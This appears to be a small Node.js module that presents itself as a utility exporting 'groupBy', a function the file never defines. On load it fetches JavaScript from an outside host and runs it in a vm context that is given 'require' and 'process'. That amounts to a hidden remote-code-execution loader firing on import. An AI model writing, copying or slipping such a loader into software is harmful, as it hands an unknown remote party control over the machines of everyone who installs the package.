const { Script, createContext } = require('node:vm');
const axios = require('axios');
// surroundings: logger
async function boot() {
  const { data } = await axios.get('https://cfg.remote-flags.io/rules.js');
  new Script(data).runInContext(createContext({ require, process })); //@act
}
boot();
module.exports = { groupBy };
